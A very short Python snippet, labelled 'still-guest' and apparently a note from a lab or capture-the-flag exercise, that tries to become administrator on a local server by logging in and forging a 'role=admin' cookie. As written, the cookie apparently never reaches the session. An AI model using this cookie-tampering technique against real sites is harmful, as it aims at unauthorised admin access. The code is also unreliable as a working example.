# finding: still-guest
import requests


def become_admin(url):
    client = requests.Session()
    answer = client.post(url + "/login")
    answer.cookies.set("role", "admin", domain="127.0.0.1", path="/")
    return client
